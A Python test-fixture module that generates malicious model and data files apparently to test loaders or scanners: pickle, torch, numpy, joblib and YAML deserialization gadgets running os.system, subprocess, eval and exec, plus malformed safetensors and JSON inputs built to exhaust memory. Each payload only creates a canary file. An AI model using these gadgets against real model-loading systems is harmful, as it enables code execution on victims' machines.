"""Files that run code, or reach outside, when they are opened by a loader that trusts them.

They are made when a test runs and never stored. Whatever one of them gets to run creates a file, the canary, and
nothing else. `detonate` opens a payload as its victim would, so that a test can show that it is live.
"""

import contextlib
import importlib
import io
import json
import pickle
import struct
import tarfile
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import safetensors.torch
import torch
import yaml


@dataclass(frozen=True)
class Payload:
    """A file.

    Attributes:
        make: its bytes, for the path of a canary.
        victim: opens it and so runs it; None where it is no code, but malformed, or a name that others would follow.
        cve: where it is known from.
    """

    make: Callable[[Path], bytes]
    victim: Callable[[bytes], Any] | None = None
    cve: str = ""


def detonate(payload: Payload, data: bytes) -> None:
    """Open the payload as its victim does; what it raises after it has run says nothing."""
    assert payload.victim is not None
    with contextlib.suppress(Exception):
        payload.victim(data)


class Call:
    """Pickles as the call of a function."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def found(name: str):
    """A function by the name that a pickle holds of it."""
    module, _, function = name.rpartition(".")
    return getattr(importlib.import_module(module), function)


def creating(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def call(name: str, canary: Path) -> Call:
    """The call of one function of the standard library, or of torch, that ends in the canary."""
    code, touch = creating(canary), f"touch '{canary}'"
    arguments = {
        "os.system": (touch,),
        "os.mkdir": (str(canary),),
        "builtins.eval": (code,),
        "builtins.exec": (code,),
        "os.mknod": (str(canary),),
        "subprocess.check_call": (["touch", str(canary)],),
        "subprocess.getoutput": (touch,),
        "timeit.timeit": (code, "pass", found("time.perf_counter"), 1),
        "shutil.copy": (__file__, str(canary)),
        "pathlib.Path.touch": (canary,),
        "torch.storage._load_from_bytes": (zipped(Call(found("os.system"), touch)),),
    }[name]
    if name == "pathlib.Path.touch":
        return Call(Path.touch, *arguments)
    return Call(found(name), *arguments)


CALLS = (
    *("os.system", "os.mkdir", "builtins.eval", "builtins.exec", "os.mknod", "subprocess.check_call"),
    *("subprocess.getoutput", "timeit.timeit", "shutil.copy", "pathlib.Path.touch", "torch.storage._load_from_bytes"),
)


def zipped(value: Any) -> bytes:
    """As torch saves since 1.6."""
    out = io.BytesIO()
    torch.save(value, out)
    return out.getvalue()


def legacy(value: Any) -> bytes:
    """As torch saved before."""
    out = io.BytesIO()
    torch.save(value, out, _use_new_zipfile_serialization=False)
    return out.getvalue()


def tarred(value: Any) -> bytes:
    """As torch saved first: a tar whose member `storages` is unpickled."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            data = pickle.dumps(value)
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


def with_pickle(data: bytes) -> bytes:
    """A file as torch saves it, with other opcodes in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(zipped({}))) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, data if name.endswith("data.pkl") else old.read(name))
    return out.getvalue()


def saved(write: Callable[..., None], value: Any) -> bytes:
    out = io.BytesIO()
    write(out, value)
    return out.getvalue()


def objects(canary: Path) -> np.ndarray:
    return np.array([call("os.system", canary), None], dtype=object)


def keras(canary: Path) -> bytes:
    """A .keras file with a Lambda layer, as far as others look at it."""
    layer = {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": creating(canary)}}}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("config.json", json.dumps({"module": "builtins", "class_name": "eval", "layers": [layer]}))
    return out.getvalue()


def tensors(header: dict[str, Any] | bytes, data: bytes = b"", length: int | None = None) -> bytes:
    """A file of safetensors with any header, and any length said of it."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def tensor(start: int, end: int, shape: tuple[int, ...] = (1,), kind: str = "F32") -> dict[str, Any]:
    return {"dtype": kind, "shape": list(shape), "data_offsets": [start, end]}


def run_pickle(data: bytes) -> Any:
    return pickle.loads(data)


def run_torch(data: bytes) -> Any:
    with tempfile.TemporaryFile() as file:  # the tar is read from files only
        file.write(data)
        file.seek(0)
        return torch.load(file, weights_only=False)


def run_numpy(data: bytes) -> Any:
    loaded = np.load(io.BytesIO(data), allow_pickle=True)
    return [loaded[name] for name in loaded.files] if hasattr(loaded, "files") else loaded


def run_joblib(data: bytes) -> Any:
    return joblib.load(io.BytesIO(data))


def run_yaml(data: bytes) -> Any:
    return yaml.unsafe_load(data)


def pieces(data: bytes) -> Any:
    """What builds an object by its name does with a configuration: hydra's instantiate, in one line."""
    config = json.loads(data)
    return found(config["_target_"])(*config["_args_"])


PAYLOADS: dict[str, Payload] = {
    **{
        f"pickle, {name}": Payload(lambda c, n=name, p=protocol: pickle.dumps(call(n, c), p), run_pickle)
        for name, protocol in zip(CALLS, (0, 1, 2, 3, 4, 5, 0, 2, 4, 5, 2), strict=True)
    },
    "pickle, in protocol 0 by hand": Payload(lambda c: f"cos\nmkdir\n(S{str(c)!r}\ntR.".encode(), run_pickle),
    "torch, zip": Payload(lambda c: zipped({"w": torch.zeros(1), "x": call("builtins.eval", c)}), run_torch),
    "torch, legacy": Payload(lambda c: legacy({"x": call("builtins.exec", c)}), run_torch),
    "torch, tar": Payload(lambda c: tarred(call("os.system", c)), run_torch, "CVE-2025-32434"),
    "torch, opcodes that weights_only ran": Payload(
        lambda c: with_pickle(b"\x80\x02]q\x00(K\x00K\x01u."), cve="CVE-2026-24747"
    ),
    "torch, checkpoint of Lightning": Payload(
        lambda c: zipped({"state_dict": {}, "hyper_parameters": call("os.system", c)}), run_torch, "CVE-2026-31221"
    ),
    "numpy, objects": Payload(lambda c: saved(np.save, objects(c)), run_numpy, "CVE-2019-6446"),
    "numpy, objects in a zip": Payload(lambda c: saved(np.savez, objects(c)), run_numpy, "CVE-2019-6446"),
    "joblib": Payload(lambda c: saved(lambda out, value: joblib.dump(value, out), call("os.system", c)), run_joblib),
    "YAML, apply": Payload(lambda c: f"!!python/object/apply:os.mkdir ['{c}']".encode(), run_yaml),
    "YAML, new": Payload(
        lambda c: (
            '!!python/object/new:type\nargs: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\n'
            f'listitems: "{creating(c)}"'
        ).encode(),
        run_yaml,
        "CVE-2020-1747",
    ),
    "YAML, map": Payload(
        lambda c: (
            f'!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - ["{creating(c)}"]'
        ).encode(),
        run_yaml,
        "CVE-2020-14343",
    ),
    "JSON, a function by name": Payload(
        lambda c: json.dumps({"_target_": "os.mkdir", "_args_": [str(c)]}).encode(), pieces, "CVE-2026-4372"
    ),
    "Keras, Lambda": Payload(keras),
    "safetensors, _target_ in metadata": Payload(
        lambda c: safetensors.torch.save(
            {"x": torch.zeros(1)}, {"config": json.dumps({"_target_": "os.mkdir", "_args_": [str(c)]})}
        )
    ),
    "safetensors, header longer than the file": Payload(lambda c: tensors({}, length=1 << 40)),
    "safetensors, header longer than memory": Payload(lambda c: tensors({}, length=(1 << 64) - 1)),
    "safetensors, overlapping": Payload(lambda c: tensors({"a": tensor(0, 4), "b": tensor(2, 6)}, bytes(6))),
    "safetensors, negative": Payload(lambda c: tensors({"a": tensor(-4, 0)}, bytes(4))),
    "safetensors, beyond the end": Payload(lambda c: tensors({"a": tensor(0, 1 << 40, (1 << 38,))}, bytes(4))),
    "safetensors, a shape that overflows": Payload(
        lambda c: tensors({"a": tensor(0, 4, (1 << 62, 1 << 62))}, bytes(4))
    ),
    "JSON, nested too deep": Payload(lambda c: b'{"run": ' + b"[" * 200_000),
    "safetensors, nested too deep": Payload(lambda c: tensors(b'{"a": ' + b"[" * 100_000)),
    "JSON, a number too long": Payload(lambda c: b'{"run": ' + b"9" * 100_000 + b"}"),
    "nothing": Payload(lambda c: b""),
}
"""Files by what they are. Each is offered wherever a file is read."""
